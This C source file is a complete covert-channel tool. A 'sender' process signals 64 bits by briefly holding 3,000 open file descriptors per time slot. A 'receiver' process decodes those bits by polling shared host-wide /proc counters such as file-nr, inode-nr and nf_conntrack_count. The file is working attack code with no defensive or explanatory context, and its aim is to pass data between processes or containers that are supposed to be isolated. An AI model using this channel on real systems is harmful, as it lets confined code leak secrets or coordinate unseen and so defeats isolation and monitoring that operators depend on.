#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sysinfo.h>
#include <time.h>
#include <unistd.h>

/* Counters of the whole host. To send a 1 the sender holds 3,000 descriptors, to send a 0 none. */
static const char *const paths[] = {"/proc/sys/fs/file-nr", "/proc/sys/fs/inode-nr", "/proc/sys/fs/inode-state", "/proc/sys/fs/dentry-state", "/proc/sys/kernel/pty/nr", "/proc/sys/fs/aio-nr", "/proc/sys/net/netfilter/nf_conntrack_count", "/proc/sys/kernel/random/entropy_avail", "/proc/cgroups"};
#define COUNT (int)(sizeof paths / sizeof *paths)

static long value(int i) {
  char text[512] = "";
  int fd = open(paths[i], O_RDONLY);
  if (fd < 0 || read(fd, text, sizeof text - 1) <= 0) text[0] = 0;
  close(fd);
  const char *digit = strpbrk(text, "0123456789");
  return digit == NULL ? 0 : atol(digit);
}

int main(void) {
  char role[16], message[32], start_time[32];
  if (scanf("%*s %15s %*s %31s %*s %31s", role, message, start_time) != 3) return 1;
  uint64_t bits = strtoull(message, NULL, 16), found[COUNT] = {0};
  long low[COUNT];
  int fds[3000], sending = strcmp(role, "sender") == 0;
  struct timespec next = {(time_t)atof(start_time), 0};
  clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &next, NULL);
  for (int i = 0; i < COUNT; i++) low[i] = value(i);
  for (int bit = 63; bit >= 0; bit--) {
    next.tv_nsec += 30000000;
    if (next.tv_nsec >= 1000000000) next.tv_sec++, next.tv_nsec -= 1000000000;
    clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &next, NULL);
    int held = sending && (bits >> bit & 1) ? 3000 : 0;
    for (int i = 0; i < held; i++) fds[i] = open("/dev/null", O_RDONLY);
    struct timespec middle = {next.tv_sec + (next.tv_nsec + 15000000) / 1000000000, (next.tv_nsec + 15000000) % 1000000000};
    clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &middle, NULL);
    for (int i = 0; i < COUNT && !sending; i++) found[i] = found[i] << 1 | (uint64_t)(value(i) - low[i] > 1500);
    middle.tv_nsec += 5000000;
    if (middle.tv_nsec >= 1000000000) middle.tv_sec++, middle.tv_nsec -= 1000000000;
    clock_nanosleep(CLOCK_REALTIME, TIMER_ABSTIME, &middle, NULL);
    for (int i = 0; i < held; i++) close(fds[i]);
  }
  for (int i = 0; i < COUNT && !sending; i++) printf("GOT %016llx by %s\n", (unsigned long long)found[i], paths[i]);
  return 0;
}
